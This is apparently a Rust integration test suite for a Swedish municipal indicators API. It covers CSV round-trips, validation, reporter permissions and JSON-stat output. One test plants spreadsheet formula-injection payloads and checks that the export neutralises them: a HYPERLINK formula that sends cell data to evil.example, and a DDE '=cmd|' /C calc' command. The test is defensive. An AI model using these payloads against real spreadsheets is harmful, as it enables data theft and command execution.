//! Indicators: values as CSV (export, all-or-nothing import, reporters) and as JSON-stat 2.0.

use std::collections::HashMap;

use chrono::Timelike;

use reqwest::{Response, StatusCode, header};
use samverkan::{
    auth::Role,
    domain::indicator::{
        Better, Breakdowns, Category, Indicator, IndicatorKind, Source, UncheckedIndicator, Unit,
    },
    entities::indicator,
    store::{self, Actor},
};
use serde_json::{Value, json};
use uuid::Uuid;

use crate::helpers::*;

/// An indicator broken down by gender and the age groups 3, 6 and 12, made through the store.
async fn create_indicator(app: &TestApp, code: &str) -> indicator::Model {
    let actor = Actor::new("test-admin".into(), vec![Role::Admin]);
    let unchecked = UncheckedIndicator {
        code: code.into(),
        name: "Barn i förskola, andel".into(),
        description: None,
        category: Category::Education,
        kind: IndicatorKind::Outcome,
        unit: Unit::Percent,
        better: Better::Higher,
        decimals: 1,
        source: Source {
            name: Some("Elevhälsans enkät".into()),
            ..Default::default()
        },
        breakdowns: Breakdowns {
            gender: true,
            age_groups: vec!["3".into(), "6".into(), "12".into()],
        },
        aggregation: None,
        weight_indicator_id: None,
        adopted_by_decision_id: None,
    };
    let txn = store::begin_write(&app.db).await.unwrap();
    let model = store::indicators::insert(&txn, &actor, Indicator::parse(unchecked).unwrap())
        .await
        .unwrap();
    txn.commit().await.unwrap();
    model
}

struct Fixture {
    app: TestApp,
    indicator: indicator::Model,
    vaxjo: Uuid,
    almhult: Uuid,
}

impl Fixture {
    async fn new(backend: Backend) -> Self {
        let app = spawn_app(backend).await;
        let indicator = create_indicator(&app, "U001").await;
        let id = |org: Value| org["id"].as_str().unwrap().parse::<Uuid>().unwrap();
        let vaxjo = id(app.create_municipality("Växjö kommun", "0780").await);
        let almhult = id(app.create_municipality("Älmhults kommun", "0765").await);
        Self {
            app,
            indicator,
            vaxjo,
            almhult,
        }
    }

    fn path(&self, query: &str) -> String {
        format!("/api/v1/indicators/{}/values.csv{query}", self.indicator.id)
    }

    async fn post(&self, query: &str, token: &str, content_type: &str, body: String) -> Response {
        self.app
            .client
            .post(self.app.url(&self.path(query)))
            .bearer_auth(token)
            .header(header::CONTENT_TYPE, content_type)
            .body(body)
            .send()
            .await
            .expect("POST")
    }

    /// Imports as admin; asserts 200 and returns (created, updated, unchanged).
    async fn import(&self, query: &str, body: String) -> (u64, u64, u64) {
        let response = self.post(query, &admin(), "text/csv", body).await;
        assert_eq!(response.status(), StatusCode::OK);
        let counts: Value = response.json().await.unwrap();
        let n = |k: &str| counts[k].as_u64().unwrap();
        (n("created"), n("updated"), n("unchanged"))
    }

    async fn export(&self, query: &str) -> String {
        let response = self.app.get(&self.path(query), None).await;
        assert_eq!(response.status(), StatusCode::OK);
        assert_eq!(
            response.headers()[header::CONTENT_TYPE],
            "text/csv; charset=utf-8"
        );
        response.text().await.unwrap()
    }

    /// A small file: by municipality code and by id, gender and age groups, a suppressed and a
    /// preliminary value.
    fn sample(&self) -> String {
        let (v, a) = (self.vaxjo, self.almhult);
        format!(
            "organisation_id,municipality_code,period,gender,age_group,value,suppressed,status,note,source_ref\n\
             ,0780,2022,total,,81.5,,,,\n\
             ,0780,2022,female,,83.25,false,final,,\n\
             ,0780,2022,male,,79,false,final,,\n\
             {v},,2023,total,,82,false,preliminary,Preliminärt,enkät 2023\n\
             {v},,2023,total,3,,true,final,För få svar,\n\
             {a},,2022,total,6,70.5,false,final,,\n\
             {a},,2021-H1,total,,68,false,final,\"Med \"\"citat\"\", och komma\",\n"
        )
    }
}

const HEADER: &str = "organisation_id,municipality_code,organisation,period,gender,age_group,\
                      value,suppressed,status,note,source_ref,approximate";

async fn csv_round_trip_is_identical(backend: Backend) {
    let f = Fixture::new(backend).await;
    assert_eq!(f.import("", f.sample()).await, (7, 0, 0));

    let exported = f.export("").await;
    let lines: Vec<&str> = exported.lines().collect();
    assert_eq!(lines[0], HEADER);
    assert_eq!(lines.len(), 8, "{exported}");
    assert!(
        exported.contains(&format!(
            "{},0780,Växjö kommun,2022,female,,83.25,false,final,,",
            f.vaxjo
        )),
        "{exported}"
    );
    assert!(exported.contains(",2023,total,3,,true,final,För få svar,"));

    assert_eq!(
        f.import("", exported.clone()).await,
        (0, 0, 7),
        "re-importing the export changes nothing"
    );
    assert_eq!(f.export("").await, exported, "the export is the same again");

    let changed = exported.replace(",83.25,", ",84,");
    assert_eq!(f.import("", changed).await, (0, 1, 6));
}

async fn semicolon_delimiter_keeps_swedish_text(backend: Backend) {
    let f = Fixture::new(backend).await;
    let note = "Små barn; åtgärd för ökad närvaro";
    let body = format!(
        "municipality_code;period;value;note\n0765;2024;12.5;\"{note}\"\n0780;2024;7;Växjö ö\n"
    );
    assert_eq!(f.import("?delimiter=;", body).await, (2, 0, 0));

    let exported = f.export("?delimiter=;").await;
    assert!(
        exported.starts_with(&HEADER.replace(',', ";")),
        "{exported}"
    );
    assert!(
        exported.contains(&format!(
            "{};0765;Älmhults kommun;2024;total;;12.5;false;final;\"{note}\";",
            f.almhult
        )),
        "decimal point stays `.` with `;`: {exported}"
    );
    assert_eq!(f.import("?delimiter=;", exported.clone()).await, (0, 0, 2));
    assert_eq!(f.export("?delimiter=;").await, exported);

    for bad in ["?delimiter=%7C", "?delimiter=%09", "?sep=;"] {
        let response = f.app.get(&f.path(bad), None).await;
        assert_problem(response, StatusCode::BAD_REQUEST).await;
    }
}

async fn a_bad_row_refuses_the_whole_file(backend: Backend) {
    let f = Fixture::new(backend).await;
    let good = "municipality_code,period,gender,age_group,value,suppressed\n0780,2022,total,,50,\n";
    let cases = [
        ("0780,2022-Q5,total,,50,", "values[1].period"),
        ("9999,2022,total,,50,", "values[1].municipality_code"),
        ("0780,2021,total,,,", "values[1].value"),
        ("0780,2021,total,,12,5,", "values[1]"),
        ("0780,2021,total,,\"12,5\",", "values[1].value"),
        ("0780,2021,total,,50,ja", "values[1].suppressed"),
        ("0780,2021,other,,50,", "values[1].gender"),
        ("0780,2021,total,4,50,", "values[1].age_group"),
    ];
    for (row, field) in cases {
        let response = f
            .post("", &admin(), "text/csv", format!("{good}{row}\n"))
            .await;
        let problem = assert_problem(response, StatusCode::UNPROCESSABLE_ENTITY).await;
        let fields: Vec<&str> = problem["errors"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["field"].as_str().unwrap())
            .collect();
        assert_eq!(fields, [field], "{row}: {problem}");
        assert_eq!(f.app.count_rows("indicator_values").await, 0, "{row}");
    }

    // A header that names unknown columns is well-formed CSV the server cannot use: 422 on the
    // `header` field, as the document says (Schemathesis found the undocumented 400).
    for bad_header in [
        "0780,2022,total,,50,\n",
        "0\n",
        "period,period\n",
        "period\n",
    ] {
        let response = f
            .post("", &admin(), "text/csv", bad_header.to_owned())
            .await;
        let problem = assert_problem(response, StatusCode::UNPROCESSABLE_ENTITY).await;
        assert_eq!(
            problem["errors"][0]["field"], "header",
            "{bad_header:?}: {problem}"
        );
        assert_eq!(f.app.count_rows("indicator_values").await, 0);
    }
}

async fn a_reporter_imports_only_for_its_own_organisation(backend: Backend) {
    let f = Fixture::new(backend).await;
    let reporter = token_for("reporter-vaxjo", &[Role::Reporter], Some(f.vaxjo));
    let both = format!(
        "organisation_id,municipality_code,period,value\n{},,2022,10\n,0765,2022,20\n",
        f.vaxjo
    );
    let response = f.post("", &reporter, "text/csv", both).await;
    assert_problem(response, StatusCode::FORBIDDEN).await;
    assert_eq!(f.app.count_rows("indicator_values").await, 0);

    let other = format!("organisation_id,period,value\n{},2022,20\n", f.almhult);
    let response = f.post("", &reporter, "text/csv", other).await;
    assert_problem(response, StatusCode::FORBIDDEN).await;
    assert_eq!(f.app.count_rows("indicator_values").await, 0);

    let orgless = token_for("reporter-none", &[Role::Reporter], None);
    for token in [orgless, token(&[Role::Member]), token(&[Role::Integration])] {
        let own = "municipality_code,period,value\n0780,2022,10\n".to_owned();
        let response = f.post("", &token, "text/csv", own).await;
        assert_problem(response, StatusCode::FORBIDDEN).await;
    }

    let own = "municipality_code,period,value\n0780,2022,10\n0780,2023,11\n".to_owned();
    let response = f.post("", &reporter, "text/csv", own).await;
    assert_eq!(response.status(), StatusCode::OK);
    let counts: Value = response.json().await.unwrap();
    assert_eq!(counts["created"], 2);
    assert_eq!(f.app.count_rows("indicator_values").await, 2);

    let response = f
        .post("", &token(&[Role::Secretary]), "text/csv", f.sample())
        .await;
    assert_eq!(
        response.status(),
        StatusCode::OK,
        "a secretary imports for all"
    );

    let anonymous = f
        .app
        .client
        .post(f.app.url(&f.path("")))
        .header(header::CONTENT_TYPE, "text/csv")
        .body("period\n")
        .send()
        .await
        .unwrap();
    assert_problem(anonymous, StatusCode::UNAUTHORIZED).await;
}

async fn wrong_media_type_and_oversized_bodies_are_refused(backend: Backend) {
    let f = Fixture::new(backend).await;
    let body = "municipality_code,period,value\n0780,2022,10\n".to_owned();
    for content_type in [
        "application/json",
        "text/plain",
        "application/x-www-form-urlencoded",
    ] {
        let response = f.post("", &admin(), content_type, body.clone()).await;
        assert_problem(response, StatusCode::UNSUPPORTED_MEDIA_TYPE).await;
    }
    let response = f
        .post("", &admin(), "text/csv; charset=utf-8", body.clone())
        .await;
    assert_eq!(response.status(), StatusCode::OK, "a charset is fine");

    let mut big = String::from("municipality_code,period,value,note\n");
    let row = format!("0780,2022,10,{}\n", "x".repeat(1000));
    while big.len() <= 4 * 1024 * 1024 {
        big.push_str(&row);
    }
    let response = f.post("", &admin(), "text/csv", big).await;
    assert_problem(response, StatusCode::PAYLOAD_TOO_LARGE).await;

    let response = f
        .post("?delimiter=x", &admin(), "text/csv", body.clone())
        .await;
    assert_problem(response, StatusCode::BAD_REQUEST).await;

    let missing = format!("/api/v1/indicators/{}/values.csv", Uuid::now_v7());
    let response = f.app.get(&missing, None).await;
    assert_problem(response, StatusCode::NOT_FOUND).await;
}

async fn json_stat_is_a_valid_dataset(backend: Backend) {
    let f = Fixture::new(backend).await;
    f.import("", f.sample()).await;
    let values = store::indicators::values(
        &f.app.db,
        f.indicator.id,
        &store::indicators::ValueFilter::default(),
        None,
    )
    .await
    .unwrap();
    let names = HashMap::from([
        (f.vaxjo, "Växjö kommun".to_owned()),
        (f.almhult, "Älmhults kommun".to_owned()),
    ]);
    let dataset = serde_json::to_value(samverkan::routes::indicators::formats::json_stat(
        &f.indicator,
        &values,
        &names,
    ))
    .unwrap();

    let result = jsonstat_validator::validate(&dataset, &Default::default());
    let findings: Vec<String> = result
        .findings
        .iter()
        .map(|x| format!("{:?} {} {}: {}", x.severity, x.code, x.path, x.message))
        .collect();
    assert!(result.valid, "{findings:#?}\n{dataset:#}");
    assert!(
        !result.findings.iter().any(|x| matches!(
            x.severity,
            jsonstat_validator::Severity::Error | jsonstat_validator::Severity::Warning
        )),
        "{findings:#?}"
    );

    assert_eq!(
        dataset["id"],
        serde_json::json!(["organisation", "period", "gender", "age_group"])
    );
    // Växjö before Älmhult; 2021-H1 < 2022 < 2023 in time ("2021" sorts as a year); genders
    // present: total, female, male; age groups: all, 3, 6.
    assert_eq!(dataset["size"], serde_json::json!([2, 3, 3, 3]));
    let periods = &dataset["dimension"]["period"]["category"]["index"];
    assert_eq!(periods["2021-H1"], 0);
    assert_eq!(periods["2023"], 2);
    let orgs = &dataset["dimension"]["organisation"]["category"]["index"];
    assert_eq!(orgs[f.vaxjo.to_string()], 0);
    assert_eq!(orgs[f.almhult.to_string()], 1);
    let ages = &dataset["dimension"]["age_group"]["category"]["index"];
    assert_eq!(ages["all"], 0);
    assert_eq!(ages["6"], 2);

    let cell = |o: usize, p: usize, g: usize, a: usize| ((o * 3 + p) * 3 + g) * 3 + a;
    let value = dataset["value"].as_array().unwrap();
    assert_eq!(value.len(), 54);
    assert_eq!(value[cell(0, 1, 1, 0)], 83.25, "Växjö 2022 female all ages");
    assert_eq!(value[cell(1, 1, 0, 2)], 70.5, "Älmhult 2022 total 6");
    assert_eq!(value[cell(1, 0, 0, 0)], 68.0, "Älmhult 2021-H1");
    assert!(value[cell(0, 2, 0, 1)].is_null(), "suppressed");
    assert!(value[cell(1, 2, 2, 1)].is_null(), "missing");
    assert_eq!(
        dataset["status"][cell(0, 2, 0, 1).to_string()],
        "suppressed"
    );
    assert_eq!(
        dataset["status"][cell(0, 2, 0, 0).to_string()],
        "preliminary"
    );
    assert_eq!(dataset["status"].as_object().unwrap().len(), 2);
    assert_eq!(dataset["role"]["geo"][0], "organisation");
    assert_eq!(dataset["role"]["time"][0], "period");
    assert_eq!(dataset["extension"]["samverkan"]["code"], "U001");
    assert_eq!(dataset["extension"]["samverkan"]["unit"], "percent");
    let updated = values.iter().map(|v| v.updated_at).max().unwrap();
    assert_eq!(
        chrono::DateTime::parse_from_rfc3339(dataset["updated"].as_str().unwrap()).unwrap(),
        updated.with_nanosecond(0).unwrap()
    );

    // Without gender or age breakdowns in the data, those dimensions are left out.
    let totals: Vec<_> = values
        .iter()
        .filter(|v| {
            v.gender == samverkan::domain::indicator::Gender::Total && v.age_group.is_empty()
        })
        .cloned()
        .collect();
    let flat = serde_json::to_value(samverkan::routes::indicators::formats::json_stat(
        &f.indicator,
        &totals,
        &names,
    ))
    .unwrap();
    assert_eq!(flat["id"], serde_json::json!(["organisation", "period"]));
    assert!(jsonstat_validator::validate(&flat, &Default::default()).valid);
}

/// A note, an organisation name or any text cell that a spreadsheet would run as a formula is
/// written as text (OWASP's rule), with `,` and with `;`.
async fn the_export_neutralises_formulas(backend: Backend) {
    let f = Fixture::new(backend).await;
    let evil = f
        .app
        .create_organisation(json!({"name": "=1+2 Förening", "kind": "ngo"}))
        .await;
    let evil = evil["id"].as_str().unwrap();
    let notes = [
        "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Öppna\")",
        "@cmd",
        "+46 470 000",
        "-1",
        "=SUMMA(A1:A9)",
    ];
    let rows: Vec<Value> = notes
        .iter()
        .enumerate()
        .map(|(i, note)| {
            json!({"organisation_id": evil, "period": format!("{}", 2015 + i), "value": 1.5,
                   "note": note, "source_ref": "=cmd|' /C calc'!A0"})
        })
        .collect();
    let response = f
        .app
        .client
        .put(
            f.app
                .url(&format!("/api/v1/indicators/{}/values", f.indicator.id)),
        )
        .bearer_auth(admin())
        .json(&json!({ "values": rows }))
        .send()
        .await
        .unwrap();
    assert_eq!(
        response.status(),
        StatusCode::OK,
        "{}",
        response.text().await.unwrap()
    );
    for (query, delimiter) in [("", b','), ("?delimiter=%3B", b';')] {
        let text = f.export(query).await;
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .from_reader(text.as_bytes());
        let mut seen = 0;
        for record in reader.records() {
            let record = record.unwrap();
            for (i, cell) in record.iter().enumerate() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a live formula in column {i}: {cell:?}"
                );
            }
            assert_eq!(&record[2], "'=1+2 Förening");
            assert!(record[9].starts_with('\''), "{:?}", &record[9]);
            assert_eq!(&record[10], "'=cmd|' /C calc'!A0");
            seen += 1;
        }
        assert_eq!(seen, notes.len());
    }
}

crate::on_both_backends!(
    the_export_neutralises_formulas,
    csv_round_trip_is_identical,
    semicolon_delimiter_keeps_swedish_text,
    a_bad_row_refuses_the_whole_file,
    a_reporter_imports_only_for_its_own_organisation,
    wrong_media_type_and_oversized_bodies_are_refused,
    json_stat_is_a_valid_dataset,
);
